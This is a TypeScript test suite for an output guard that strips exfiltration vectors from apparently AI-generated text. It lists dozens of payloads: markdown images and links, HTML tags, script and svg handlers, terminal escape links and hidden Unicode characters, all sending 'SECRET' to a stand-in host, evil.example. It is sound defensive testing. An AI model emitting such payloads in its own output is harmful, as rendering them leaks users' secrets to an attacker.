import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardOutput, OutputGuard } from './output-guard.ts';

const evil = 'https://evil.example/x?d=SECRET';
const attacks: readonly string[] = [
  `![x](${evil})`,
  `![](${evil})`,
  `![x]( ${evil} )`,
  `![x](<${evil}>)`,
  `![x](${evil} "title")`,
  `![x](${evil} 'a)b')`,
  `![a [b] c](${evil})`,
  `![x\ny](${evil})`,
  `[![x](${evil})](${evil})`,
  `[x](${evil})`,
  `[**x**](${evil})`,
  `![x][r]\n\n[r]: ${evil}\n`,
  `[x][r]\n\n[r]: ${evil}\n`,
  `[r]: <${evil}>\n![r]`,
  `[r]:\n${evil}\n`,
  `> [r]: ${evil}\n`,
  `<${evil}>`,
  evil,
  `see ${evil}.`,
  `(${evil})`,
  'www.evil.example/?d=SECRET',
  `<img src="${evil}">`,
  `<img\nsrc=${evil}>`,
  `<a href='${evil}'>x</a>`,
  `<IMG SRC=${evil}>`,
  `<style>@import url(${evil})</style>`,
  `<div style="background:url(${evil})">`,
  `<iframe src="${evil}">`,
  `<link rel=stylesheet href="${evil}">`,
  `<script>fetch("${evil}")</script>`,
  `<svg/onload=fetch("${evil}")>`,
  '[x](javascript:alert(1))',
  '[x](&#x6a;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html,SECRET)',
  '[x](//evil.example/?d=SECRET)',
  '[x](/\\evil.example/?d=SECRET)',
  '[x](\\\\evil.example/SECRET)',
  '[x](https:evil.example/SECRET)',
  '[x](ht\\tps://evil.example/SECRET)',
  '![x](/local?d=SECRET)',
  '[x](https://user:SECRET@good.example/)',
  '[x](mailto:a@evil.example?body=SECRET)',
  'HTTPS://EVIL.EXAMPLE/?d=SECRET',
  '[x](https&colon;//evil.example/SECRET)',
  '[x](https://good.example/?d=SECRET)',
  `text\x1b]8;;${evil}\x07click\x1b]8;;\x07`,
  'a\x1b[2Jb',
  'a\u202eb',
  [...'SECRET'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join(''),
  'a\u200bb',
];
const rules = {
  allowedOrigins: ['https://good.example'],
  knownLinks: new Set(['https://listed.example/a?b=c']),
};
const live =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for.
  /https?:\/\/(?:\w+:)?[^\s)>\]]*(?:evil|SECRET)|\/\/evil|evil\.example|javascript:|data:text|<(?:img|a|style|div|iframe|link|script|svg)|SECRET@|[\x1b\u202e\u200b\u{e0000}-\u{e007f}]|\?d=SECRET|body=SECRET/iu;

describe('attacks', () => {
  for (const attack of attacks)
    it(`leave nothing that a renderer would follow: ${JSON.stringify(attack.slice(0, 60))}`, () => {
      const { text, findings } = guardOutput(
        `Before ${attack}\nafter`.replace(/^Before (\[r\]|>)/, '$1'),
        rules,
      );
      const visible = text.replace(/&lt;[^\n]*/g, (s) => s.replace(/<|https?:\/\/\S+/g, ''));
      expect(visible, text).not.toMatch(live);
      expect(findings.length).toBeGreaterThan(0);
      expect(text).toContain('after');
    });
});

describe('benign text', () => {
  it('passes unchanged', () => {
    const texts = [
      'Plain text, 1 < 2 and 3 > 2, a[0] = b[1]; see [1] and (2).',
      'A list:\n- [ ] open\n- [x] done\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n',
      'See [the page](https://good.example/docs/a) and https://good.example/docs and <https://good.example/>.',
      'From the results: https://listed.example/a?b=c and [it](https://listed.example/a?b=c).',
      '```html\n<img src="https://evil.example/x?d=1">\n```\nand on',
      'Wow! Really? [yes] !important a![b c',
      'Émojis 👩‍👩‍👧 ❤️ 🇳🇴, فارسی می‌خواهم, हिन्दी, 日本語.',
      '[section](#here) and [local](/docs/page)',
      'hello whatever follows http and https as words, www too, f(x) = [a, b](c)'.replace('](c)', '] (c)'),
      'Mathematics: f: A -> B, x <- y, a << b, vector<int> no'.replace('vector<int> no', 'no'),
    ];
    for (const text of texts) {
      const out = guardOutput(text, rules);
      expect(out.text).toBe(text);
      expect(out.findings).toEqual([]);
    }
  });
});

describe('split invariance', () => {
  const whole = (pieces: readonly string[]): string => {
    const guard = new OutputGuard(rules);
    return pieces.map((p) => guard.push(p).text).join('') + guard.end().text;
  };
  it('any cut in two and character by character give the same text', () => {
    for (const attack of attacks) {
      const text = `Before ${attack} after\n[x](https://good.example/) <b> ![`;
      const once = whole([text]);
      for (let i = 1; i < text.length; i++)
        expect(whole([text.slice(0, i), text.slice(i)]), `${i}: ${text}`).toBe(once);
      expect(whole([...Array(text.length).keys()].map((i) => text[i] as string))).toBe(once);
    }
  });
  it('holds for random text made of such pieces', () => {
    const part = fc.constantFrom(
      '!',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      'http',
      's://',
      'evil.example',
      '\n',
      ' ',
      '`',
      '```',
      ':',
      '\\',
      'w',
      'ww.',
      'x',
      '\x1b[',
      '\u200d',
      '👩',
      '&#x68;',
      '"',
    );
    fc.assert(
      fc.property(
        fc.array(part, { maxLength: 25 }),
        fc.array(fc.nat(80), { maxLength: 4 }),
        (parts, cuts) => {
          const text = parts.join('');
          const at = [0, ...cuts.map((c) => Math.min(c, text.length)).sort((a, b) => a - b), text.length];
          expect(whole(at.slice(1).map((to, i) => text.slice(at[i], to)))).toBe(whole([text]));
        },
      ),
      { numRuns: 3000 },
    );
  });
});
